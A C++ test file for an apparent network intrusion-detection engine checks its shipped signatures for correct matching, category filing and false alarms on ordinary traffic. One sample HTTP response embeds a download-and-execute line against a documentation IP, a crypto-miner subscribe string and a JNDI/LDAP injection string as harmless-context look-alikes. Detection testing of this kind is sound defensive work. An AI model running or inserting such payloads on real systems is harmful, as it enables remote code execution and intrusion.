// SPDX-License-Identifier: BSD-3-Clause
// The signatures that come with the program.
#include <algorithm>
#include <cstdlib>
#include <random>
#include <set>
#include <sys/mman.h>

#include <catch2/catch.hpp>

#include "content/inspector.hpp"
#include "content/signature_check.hpp"
#include "signature_texts.hpp"

using namespace flowlock;
using namespace flowlock::test;

namespace {

SignatureFiles shipped() {
    const char* folder = std::getenv("FLOWLOCK_SIGNATURES");
    REQUIRE(folder != nullptr);
    SignatureFiles files;
    read_signature_folder(folder, files);
    return files;
}

// What innocent hosts send and receive all day.
const std::vector<std::string> ordinary{
    "GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) "
    "Gecko/20100101 "
    "Firefox/120.0\r\nAccept: text/html\r\nAccept-Language: de,en\r\n\r\n",
    "GET /debian/dists/bookworm/InRelease HTTP/1.1\r\nHost: deb.debian.org\r\nUser-Agent: Debian "
    "APT-HTTP/1.3 "
    "(2.6.1)\r\n\r\n",
    "POST /login.php HTTP/1.1\r\nHost: forum.example.org\r\nContent-Type: "
    "application/x-www-form-urlencoded\r\n"
    "Content-Length: 32\r\n\r\nusername=alice&password=secret12",
    "POST /rpc HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\n\r\n"
    "{\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"a\",\"pass\":\"b\"},\"id\":1}",
    "{\"id\":1,\"method\":\"subscribe\",\"params\":[\"ticker\"]}\n",
    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><pre>wget http://192.0.2.7/a; chmod +x a; "
    "./a</pre>{\"method\": \"mining.subscribe\"}${jndi:ldap://x/a}",
    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n\r\n",
    "220 mail.example.org ESMTP Postfix\r\n",
    "EHLO mail.example.net\r\n",
    "250-mail.example.org\r\n250-PIPELINING\r\n250 AUTH PLAIN LOGIN\r\n",
    "550 5.1.1 <x@example.org>: Recipient address rejected: User unknown\r\n",
    "220 (vsFTPd 3.0.5)\r\n",
    "230 Login successful.\r\n",
    "530 Please login with USER and PASS.\r\n",
    "* OK [CAPABILITY IMAP4rev1 STARTTLS AUTH=PLAIN] Dovecot ready.\r\n",
    "a1 OK Logged in\r\n",
    "+OK Dovecot ready.\r\n",
    "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
    "INVITE sip:bob@example.org SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1:5060\r\nFrom: "
    "<sip:alice@example.org>;tag=1\r\n"
    "User-Agent: snomD785/10.1.127\r\n\r\n",
    "SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 192.0.2.1:5060\r\nServer: Asterisk PBX 20\r\n\r\n",
    ":server.example 001 alice :Welcome to the Internet Relay Network\r\n",
    "PING :server.example\r\n",
    "*1\r\n$4\r\nPING\r\n",
    "+PONG\r\n",
    std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11) + std::string(500, '\x5a'),
    std::string("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07"
                "example\x03org\x00\x00\x01\x00\x01",
                33),
    std::string("\x23\x02\x0a\x20", 4) + std::string(44, '\0'),
    std::string("\x1b", 1) + std::string(47, '\0'),
    std::string("\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27", 12),
    std::string("\x10\x27\x00\x04MQTT\x04\xc2\x00\x3c", 12),
    std::string("\x4a\x00\x00\x00\x0a"
                "8.0.35\0",
                12) +
        std::string(40, 'a'),
    "@RSYNCD: 31.0\n",
    "<34>Oct 11 22:14:15 host su: 'su root' failed for alice on /dev/pts/8\n",
};

}  // namespace

TEST_CASE("every signature that comes with the program matches its payloads and none of its look-alikes") {
    SignatureFiles files = shipped();
    CHECK(files.mistakes == std::vector<std::string>{});
    CHECK(files.signatures.size() > 150);
    const auto set = std::make_shared<const SignatureSet>(std::move(files.signatures));
    CHECK(set->refused() == std::vector<std::string>{});
    const SignatureCheck check = check_signatures(set);
    CHECK(check.payloads > 500);
    CHECK(check.failures == std::vector<std::string>{});
}

TEST_CASE("each kind of abuse has signatures that come with the program, in a file of its topic") {
    std::set<SignatureCategory> seen;
    for (const Signature& signature : shipped().signatures) {
        seen.insert(signature.category);
        INFO(signature.file << ": " << signature.id);
        const std::string name(name_of(signature.category));
        const bool is_in_its_file = signature.file.find("/" + name + ".toml") != std::string::npos ||
                                    signature.file.find("/" + name + "s.toml") != std::string::npos;
        CHECK(is_in_its_file);
    }
    CHECK(seen.size() == static_cast<std::size_t>(SignatureCategory::tool) + 1);
}

TEST_CASE("what names a program accuses nobody") {
    for (const Signature& signature : shipped().signatures) {
        INFO(signature.id);
        CHECK(
            (signature.category != SignatureCategory::tool || signature.severity == SignatureSeverity::low));
    }
}

TEST_CASE("no severe signature meets what innocent hosts send, on whatever port") {
    SignatureFiles files = shipped();
    const auto set = std::make_shared<const SignatureSet>(std::move(files.signatures));
    Inspector inspector(set);
    std::vector<SignatureIndex> room(set->signatures().size());
    std::set<std::uint16_t> ports{80, 40'000};
    for (const Signature& signature : set->signatures())
        for (const PortRange& range : signature.ports) ports.insert(range.first);
    // Services of text that anybody may type to, and answers told from others by their length alone.
    const auto is_any_text = [](const Signature& signature) {
        return signature.id == "amp-qotd-answer" || signature.id == "amp-sentinel-answer" ||
               signature.id == "amp-arms-answer";
    };
    for (const std::string& payload : ordinary)
        for (const std::uint8_t protocol : {tcp, udp})
            for (const std::uint16_t port : ports)
                for (const bool answers : {false, true}) {
                    const std::size_t count = inspector.inspect(
                        protocol, answers ? port : 50'000, answers ? 50'000 : port, bytes_of(payload), room);
                    for (std::size_t i = 0; i < count; ++i) {
                        const Signature& signature = set->signatures()[room[i]];
                        INFO(signature.id << " on port " << port << ": " << payload.substr(0, 40));
                        CHECK((signature.severity == SignatureSeverity::low || is_any_text(signature)));
                    }
                }
}

// Hyperscan reads beyond what it is given on some processors.
TEST_CASE("a payload may end where its memory ends") {
    constexpr std::size_t page = 4096;
    void* pages = mmap(nullptr, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    REQUIRE(pages != MAP_FAILED);
    auto* end = static_cast<std::byte*>(pages) + page;
    REQUIRE(mprotect(end, page, PROT_NONE) == 0);
    Inspector inspector(std::make_shared<const SignatureSet>(shipped().signatures));
    std::mt19937 random(1);
    std::vector<SignatureIndex> found(16);
    for (int round = 0; round < 100'000; ++round) {
        const std::span payload{end - 1 - random() % 128, end};
        for (std::byte& byte : payload) byte = static_cast<std::byte>(random());
        const auto service = static_cast<std::uint16_t>(random() % 1024);
        inspector.inspect(round % 2 == 0 ? 6 : 17, 40'000, service, payload, found);
    }
    munmap(pages, 2 * page);
}
